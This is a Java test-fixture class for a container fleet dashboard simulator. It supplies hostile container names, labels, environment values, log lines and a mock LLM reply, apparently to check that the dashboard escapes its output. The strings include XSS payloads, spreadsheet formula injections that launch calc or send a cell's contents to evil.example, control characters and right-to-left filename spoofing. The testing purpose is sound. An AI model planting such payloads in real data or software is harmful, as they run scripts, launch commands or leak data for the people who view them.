package io.fleetdashboard.simulator.control;

import io.fleetdashboard.simulator.entity.SimContainer;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * The hostile world (simulator setting {@code hostile}, off unless a test turns it on): the first endpoint of the
 * first server gets containers whose names, labels, environment, stack, network, image tag and log lines carry
 * script, markup, quotes, control characters, a right-to-left override, a 10,000-character name and spreadsheet
 * formulas. Every payload that would run sets {@code window.__pwned} or adds an element with id {@code pwned}, so a
 * test only has to look for those two.
 */
public final class Hostile {

    /** The label every hostile container carries, so the simulator knows it (its env and logs are hostile too). */
    public static final String MARKER = "fleet.example/hostile";
    /** The endpoint name sim-1's first endpoint takes in the hostile world (the usual name, then markup). */
    public static final String ENDPOINT_SUFFIX = "-<i id=\"pwned\">site</i>\u202e";
    public static final String LONG_NAME = "long-" + "x".repeat(9_995);

    /** Container names: each one also the first word of its own log lines. */
    public static final List<String> NAMES = List.of(
            "<script>window.__pwned=1</script>",
            "\"><img id=\"pwned\" src=x onerror=\"window.__pwned=1\">",
            "quote'\"`-);window.__pwned=1;//",
            "ctl-\u0001\u0007\u0008\u000b\u000c\u001b[31mred\u001b[0m\u007f-end",
            "rtl-\u202egnp.exe",
            LONG_NAME,
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "javascript:window.__pwned=1",
            "[click](javascript:window.__pwned=1)");

    /** Compose projects (stacks), their networks are {@code project + "_default"}. */
    public static final List<String> PROJECTS = List.of("<b id=\"pwned\">stack</b>", "=1+1 stack",
            "stack-\u202eltr-" + "y".repeat(300));

    /** Image tags of the hostile containers (one per project, round robin). */
    public static final List<String> IMAGES = List.of("registry.example.com/<script>window.__pwned=1</script>:1",
            "=HYPERLINK(\"http://evil.example\"):latest", "img\u202e:" + "z".repeat(500));

    private Hostile() {
    }

    public static boolean is(SimContainer c) {
        return c.extraLabels.containsKey(MARKER);
    }

    /** The labels of hostile container i: the marker, its own name as a value, markup and formulas in keys too. */
    public static Map<String, String> labels(int i) {
        Map<String, String> labels = new LinkedHashMap<>();
        labels.put(MARKER, "1");
        labels.put("fleet.example/note", NAMES.get(i));
        labels.put("<img id=\"pwned\" src=x onerror=\"window.__pwned=1\">", "key-is-markup");
        labels.put("=cmd|' /C calc'!A0", "-2+3");
        labels.put("fleet.example/ctl", "nul-\u0000-bel-\u0007-esc-\u001b[1m-end");
        labels.put("fleet.example/rtl", "\u202eevil\u202c");
        return labels;
    }

    /** Extra environment of a hostile container ("KEY=VALUE", with markup and formulas on both sides). */
    public static List<String> env(SimContainer c) {
        List<String> env = new ArrayList<>();
        env.add("HOSTILE_<script>window.__pwned=1</script>=<img id=\"pwned\" src=x onerror=\"window.__pwned=1\">");
        env.add("=HYPERLINK(\"http://evil.example\")=+cmd|' /C calc'!A0");
        env.add("CTL=\u0000\u0001\u001b[31m\u007f");
        env.add("RTL\u202e=\u202etxt.exe");
        env.add("NAME=" + c.name);
        return env;
    }

    /** Log line k of a hostile container: markup, ANSI colours, NUL, carriage returns, formulas, a very long line. */
    public static String logLine(SimContainer c, long k) {
        String name = c.name.length() > 40 ? c.name.substring(0, 40) : c.name;
        return switch ((int) Math.floorMod(k, 8L)) {
            case 0 -> "ERROR <script>window.__pwned=1</script> from " + name;
            case 1 -> "INFO  <img id=\"pwned\" src=x onerror=\"window.__pwned=1\"> \"quoted\" 'single' `tick`";
            case 2 -> "WARN  \u001b[31mred\u001b[0m nul\u0000bel\u0007 bs\u0008 del\u007f";
            case 3 -> "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") " + name;
            case 4 -> "INFO  progress 10%\r50%\r100% \u202eevil\u202c done";
            case 5 -> "@SUM(1+1)*cmd|' /C calc'!A0";
            case 6 -> "INFO  " + "w".repeat(10_000);
            default -> "INFO  [click](javascript:window.__pwned=1) </pre></code></textarea><b id=\"pwned\">x</b>";
        };
    }

    /** The hostile answer of the LLM stand-in (asked with "simulate: hostile"): script, raw markup, bad links. */
    public static final String ANSWER = "Here is **bold** and a [safe link](https://example.com/docs).\n\n"
            + "<script>window.__pwned=1</script>\n\n"
            + "<img id=\"pwned\" src=x onerror=\"window.__pwned=1\">\n\n"
            + "[click me](javascript:window.__pwned=1) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
            + " [vb](vbscript:msgbox) <a href=\"javascript:window.__pwned=1\" id=\"pwned\">raw</a>\n\n"
            + "`<b id=\"pwned\">code</b>` and \u202eevil\u202c and a long word " + "q".repeat(3_000) + "\n\n"
            + "```\n</pre><script>window.__pwned=1</script>\n```\n";
}
